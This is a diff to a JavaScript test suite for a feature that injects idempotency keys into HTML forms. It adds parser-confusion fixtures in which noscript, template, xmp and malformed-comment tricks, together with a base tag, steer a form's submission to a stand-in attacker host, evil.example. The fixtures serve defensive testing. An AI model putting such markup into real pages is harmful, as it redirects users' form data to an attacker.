@@ -109,6 +109,12 @@ const MISREAD = {
   // keeps a GET form as the browser's form, or swallows the pin).
   "/misread/table-base": `<table><tr><td><form method="post" action="orders"><input name="q"><button>Pay</button></form></td></tr><base href="https://evil.example/"></table>`,
   "/misread/noscript-template": `<noscript><template></noscript><form method="post"></form></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
+  // The seventh's: a button Chromium does not count as a submitter (with
+  // `commandfor`), so Enter sends the GET form itself; a `<noscript>`
+  // comment a browser ends at `--!>`, leaving an `<xmp>` open that swallows
+  // the `</form>` and keeps the GET form the browser's.
+  "/misread/commandfor-get": `<form method="get" action="/search"><input name="q"><button commandfor="d" formmethod="post">Go</button></form>`,
+  "/misread/noscript-bang-comment": `<form method="get" action="https://evil.example/c"><noscript><!-- --!><xmp><!-- --></noscript></form><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
   "/misread/noscript-template-get": `<form method="get" action="https://evil.example/c"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
@@ -355,9 +361,9 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     assert.deepEqual(Object.keys(forms).sort(), ["a", "b", "c", "d"], html);
     assert.equal(forms.a.length, 1);
     assert.match(forms.a[0], UUID7);
-    assert.equal(forms.d.length, 1, "a form whose button posts it");
-    assert.match(forms.d[0], UUID7);
-    assert.notEqual(forms.a[0], forms.d[0]);
+    // A get form whose button posts it: a browser may still send it with
+    // its own GET (Enter; a button it does not count as a submitter).
+    assert.deepEqual(forms.d, [], "a get form whose button posts");
     assert.deepEqual(forms.b, [], "a get form: a key would only land in the URL");
     assert.deepEqual(forms.c, ["page-own-key"], "the page's own field wins");
     // The body is new with each answer: nothing may describe the origin's bytes or share it.
